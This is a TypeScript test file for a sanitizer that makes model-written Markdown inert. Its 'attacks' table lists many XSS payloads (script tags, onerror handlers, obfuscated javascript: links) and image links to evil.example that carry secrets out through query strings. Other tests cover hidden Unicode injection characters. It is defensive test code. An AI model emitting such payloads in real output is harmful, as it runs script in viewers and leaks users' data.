import * as fc from 'fast-check'
import { marked } from 'marked'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { describe, expect, test } from 'vitest'
import { cleanArtifact } from './clean.ts'
import { inertMarkdown } from './inert-markdown.ts'

const raw = { allowDangerousHtml: true, allowDangerousProtocol: true }
/** Renderers that let everything through, as a careless viewer would. */
const viewers: Record<string, (markdown: string) => string> = {
  CommonMark: (markdown) => micromark(markdown, raw),
  'a code host': (markdown) =>
    micromark(markdown, { ...raw, extensions: [gfm()], htmlExtensions: [gfmHtml()] }),
  'a browser': (markdown) => marked.parse(markdown, { async: false }),
}
const HARMLESS = new Set(
  'p a code pre h1 h2 h3 h4 h5 h6 em strong del ul ol li blockquote hr br table thead tbody tr th td section sup input'.split(
    ' ',
  ),
)

/** What would run, load, or lead elsewhere than to the web, in any viewer. */
function liveIn(markdown: string): readonly string[] {
  return Object.entries(viewers).flatMap(([viewer, render]) =>
    Array.from(render(markdown).matchAll(/<\/?([a-z!?][\w-]*)([^>]*)>/giu), ([whole, name, rest]) =>
      isHarmless(name ?? '', rest ?? '') ? [] : [`${viewer}: ${whole}`],
    ).flat(),
  )
}

function isHarmless(name: string, attributes: string): boolean {
  if (!HARMLESS.has(name) || /(?:^|\s)(?:on\w+|src|style)=/u.test(attributes)) return false
  const address = / href="([^"]*)"/u.exec(attributes)?.[1]?.replaceAll(/\s|&#\w+;/gu, '') ?? ''
  if (/^[/\\]{2}/u.test(address)) return false
  return !/^[a-z][\w+.-]*:/iu.test(address) || /^(?:https?|mailto|ftp|xmpp):/iu.test(address)
}

const attacks: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an image': '![status](https://evil.example/p.png?d=secret)',
  'an image by reference': '![status][1]\n\n[1]: https://evil.example/p.png?d=secret',
  'an image by its own name': '![status]\n\n[status]: https://evil.example/p.png',
  'an image in a link': '[![build](https://evil.example/b.svg)](https://example.com)',
  'an image in a heading and a table': '# ![a](//e/x)\n\n| ![b](//e/y) |\n|---|\n| ![c](//e/z) |',
  'an image over two lines': '![a\nb](https://evil.example/p.png)',
  'a script link': '[run](javascript:alert(1))',
  'a script link in mixed case': '[run](JaVaScRiPt:alert(1))',
  'a script link of entities': '[run](&#106;avascript&colon;alert(1))',
  'a script link with a line break as entity': '[run](java&#10;script:alert(1))',
  'a script link with an escaped colon': String.raw`[run](javascript\:alert(1))`,
  'a script link in angles': '[run](<javascript:alert(1)>)',
  'a script link split over lines': '[run](\njavascript:alert(1)\n)',
  'a script link in a quote': '> [run](\n> javascript:alert(1))',
  'a definition': '[run]\n\n[run]: javascript:alert(1)',
  'a definition over lines': '[run]\n\n[run]:\n  javascript:alert(1)\n  "title"',
  'a definition in a footnote': '[run]\n\n[^1]:[run]: javascript:alert(1)',
  'a data link': '[page](data:text/html;base64,PHNjcmlwdD4=)',
  'a file link': '[hosts](file:///etc/hosts)',
  'a link to another machine': '[share](//evil.example/share)',
  'a vbscript link': '[run](vbscript:msgbox)',
  'an address in angles': '<javascript:alert(1)>',
  'an editor command': '[open](vscode://evil/x)',
  'an open details block': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a drawing': '<svg onload=alert(1)>',
  'a style sheet': '<style>@import url(https://evil.example/x.css)</style>',
  'a base address': '<base href="https://evil.example/">',
  'a comment that ends': '<!-- --> <img src=x> -->',
  'a processing instruction': '<?php x ?>',
  'a frame in a list in a quote': '> - <iframe src="https://evil.example"></iframe>',
  'a tag over two lines': '<img\nsrc=x\nonerror=alert(1)>',
  'a tag behind an unfinished fence in a list': '- ```\nx\n\n<img src=x>',
  'a tag behind a fence that is a paragraph': 'a\n    ```\n    <img src=x>\n\n    x\n    ```',
  'a tag in what is code only without tables': '| a |\n|---|\n| `<img src=x> | ` |',
  'a tag in a code span over two lines': '`a\nb` <img src=x> `c`',
  'a tag behind an address that takes the backtick': 'https://a.b/`<img src=x>`',
  'a tag behind an address that takes the backslash': String.raw`https://a.b/\<img src=x>`,
  'a tag in a link that is none': '](<img src=x onerror=alert(1)>)',
  'a tag behind a blank that is no blank line': 'a `\n\u{a0}\nb` <img src=x> `',
}

describe('UI-02 Markdown of a model', () => {
  test.each(Object.entries(attacks))('does nothing in any viewer: %s', (_, markdown) => {
    expect(liveIn(markdown), 'the attack is one').not.toEqual([])
    expect(liveIn(inertMarkdown(markdown).text)).toEqual([])
  })

  test('does nothing in any viewer, whatever its pieces, and a second pass changes nothing', () => {
    const piece = fc.constantFrom(...Object.values(attacks), ...MARKS)
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const { text } = inertMarkdown(pieces.join(''))
        expect(liveIn(text)).toEqual([])
        expect(inertMarkdown(text)).toEqual({ text, notes: [] })
      }),
      { numRuns: 300 },
    )
  })

  test('says what was changed', () => {
    const { notes } = inertMarkdown(
      '<b>x</b> ![a](b.png) [c](javascript:d)\n\n```mermaid\n```\n\u{200b}',
    )
    expect(notes).toEqual([
      '2 tags are shown as text',
      '1 image is shown as text',
      '1 link is shown as text',
      '1 diagram is shown as code',
      'invisible characters are written out',
    ])
  })

  test.each([
    ['![the graph](https://e.x/g.png "t")', 'the graph (`https://e.x/g.png`)'],
    ['![](g.png)', 'image (`g.png`)'],
    ['![~~~](g.png)', 'image ~~~ (`g.png`)'],
    ['a <b>bold</b> word', 'a &lt;b>bold&lt;/b> word'],
    ['[x](javascript:y)', String.raw`[x]\(javascript:y)`],
    ['[x]: data:text/html,y', String.raw`[x]\: data:text/html,y`],
    ['[x](<my file.md> "t")', '[x](my%20file.md "t")'],
    ['```mermaid\ngraph LR\n```', '```text mermaid\ngraph LR\n```'],
    ['```js {cmd=node}\n1\n```', '```js (cmd=node)\n1\n```'],
    ['---\na: |\n  ```\n---\n<b>', '---\na: |\n  ```\n---\n&lt;b>'],
    ['$$\n```\n$$\n<b>', '$$\n```\n$$\n&lt;b>'],
    ['$a`$ <b> `', '$a`$ &lt;b> `'],
    ['@import "https://e.x/x.md"', String.raw`\@import "https://e.x/x.md"`],
  ])('%s becomes %s', (before, after) => {
    expect(inertMarkdown(before).text).toBe(after)
  })
})

/** Pieces of grammar that the property test puts together. */
const MARKS = [
  '`',
  '``',
  '```',
  '~~~',
  '$',
  '$$',
  '|',
  '|---|',
  '---',
  '\\',
  '> ',
  '- ',
  '1. ',
  '[^1]: ',
  '    ',
  '  ',
  ' ',
  '\t',
  '\n',
  '\n\n',
  '\n    ',
  '\n> ',
  '\n```\n',
  '\n   ```\n',
  '\n$$\n',

  'a',
  'b ',
  '"',
  '(',
  ')',
  '[',
  ']',
  '](',
  ']:',
  '!',
  '&colon;',
  'mermaid',
  '\u{a0}',
  '{',
  '}',
  'https://a.b/',
  'www.a.b/',
  '<https://a.b/c>',
  '[r]: x:y',
  '[r]',
  '<t>',
  '](x:y)',
]

describe('ordinary Markdown stays byte for byte', () => {
  test.each([
    [
      'links',
      '[a](https://a.b/c_(d)?e=f#g "title"), [b](../docs/x.md#y), [c](mailto:a@b.cd), [d][e]',
    ],
    ['definitions', '[a]: https://a.b "t"\n[b]: docs/x.md\n[^1]: Note: of no scheme\n[ERROR]: x'],
    ['addresses', '<https://a.b/c?d=e> <a@b.cd> https://a.b/c www.a.b'],
    ['comparisons', 'a < b, <3, x <- y, 1<2, a && b > c'],
    ['code spans', '`<div>` and ``a ` <b>`` and `![x](y)` and `[x](javascript:y)`'],
    ['a code span over two lines', 'Text with `git diff\n--stat <path>` in it, and `<b>` here.'],
    ['fences', '```html\n<img src="x">\n```\n\n~~~ts\nconst a = <T>(b) => ![c](d)\n~~~'],
    ['a fence that never ends', '```\n<img src=x>\n'],
    [
      'fences in lists',
      '1. a:\n   ```sh\n   wave apply <run>\n   ```\n2. b\n\n   ```\n   <c>\n   ```',
    ],
    ['fences in nested lists', '- a\n  - b:\n    ```\n    <c>\n    ```\n'],
    ['a fence that begins an item', '- ```\n  <c>\n  ```\n- d'],
    ['fences in quotes', '> ```\n> <b>\n> ```\n> text'],
    ['indented code', 'a\n\n    <div>\n    ![x](y)\n\nb'],
    ['tables', '| a | b |\n|---|:-:|\n| `<b>` | `c \\| <d>` |'],
    ['formulas and prices', 'It costs $5 or $6, and $a_b$.'],
    ['escapes', String.raw`Array\<string> \![a] \[b](c) \*d\*`],
    ['front matter', '---\ntitle: a\n---\n\n# b\n\n`<c>`'],
    ['emoji of several characters', '⚠️ 👩‍🔬 👍🏽 1️⃣ naïve 支払い'],
    ['tasks and headings', '# A\n\n- [ ] b\n- [x] c\n\nD\n=\n\n* * *\n'],
  ])('%s', (_, markdown) => {
    expect(inertMarkdown(markdown)).toEqual({ text: markdown, notes: [] })
  })
})

describe('PI-07 invisible characters in Markdown', () => {
  test.each([
    ['tag characters', 'a\u{e0041}\u{e007f}', String.raw`a\u{e0041}\u{e007f}`],
    ['zero width', 'a\u{200b}b\u{2060}c', String.raw`a\u{200b}b\u{2060}c`],
    ['bidi', 'a\u{202e}b\u{2066}c', String.raw`a\u{202e}b\u{2066}c`],
    ['escapes, also in code', '```\n\u{1b}[2J\n```', '```\n\\u{1b}[2J\n```'],
    ['a joiner between letters', 'a\u{200d}b', String.raw`a\u{200d}b`],
    ['many selectors', '👍\u{fe0f}\u{fe0f}\u{fe01}', '👍\u{fe0f}\\u{fe0f}\\u{fe01}'],
    ['a carriage return alone', 'safe\revil', String.raw`safe\u{d}evil`],
  ])('%s', (_, before, after) => {
    expect(inertMarkdown(before).text).toBe(after)
  })

  test('a byte order mark goes, and line ends are those of Unix', () => {
    expect(inertMarkdown('\u{feff}# A\r\n\r\nb\r\n').text).toBe('# A\n\nb\n')
  })
})

const report = (lines: number): string =>
  `# A\n\n- \`src/a.ts:12\` \`const a = <b>\` <i>x</i> ![c](https://d.e/f) [g](h.md)\n`.repeat(
    lines / 3,
  )

describe('UI-07 a large document', () => {
  test('200,000 lines take as much memory as they are long', () => {
    const text = report(200_000)
    expect(inertMarkdown(text).text.split('\n')).toHaveLength(text.split('\n').length)
  })

  test.each([
    '![',
    '](',
    '[a]: b (',
    '<a',
    '`',
    '`a``b',
    '> ',
    '$`$',
    'https://a`',
    '\\<',
    '](a "b ',
  ])('one line of half a million times %s is no trap', (unit) => {
    const { text } = inertMarkdown(unit.repeat(500_000))
    expect(text.length).toBeGreaterThanOrEqual(500_000)
  })
})

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

describe('an artifact', () => {
  test.each([
    ['markdown', 'report', 'a &lt;b>'],
    ['text', 'output/report.md', 'a &lt;b>'],
    ['text', 'output/notes.txt', 'a <b>'],
    ['json', 'output/a.json', 'a <b>'],
  ] as const)('of type %s at %s is stored as %s', async (type, path, stored) => {
    const { content } = await cleanArtifact({ name: 'it', type, path }, bytes('a <b>'), undefined)
    expect(new TextDecoder().decode(content)).toBe(stored)
  })

  test('names what was changed, and secrets go first', async () => {
    const declared = { name: 'report', type: 'markdown', path: 'output/report.md' } as const
    const clean = await cleanArtifact(declared, bytes('![k](https://e.x/?k=SECRET)'), (text) =>
      text.replaceAll('SECRET', '[redacted]'),
    )
    expect(new TextDecoder().decode(clean.content)).not.toContain('SECRET')
    expect(clean.notes).toContain('report: 1 image is shown as text.')
  })
})
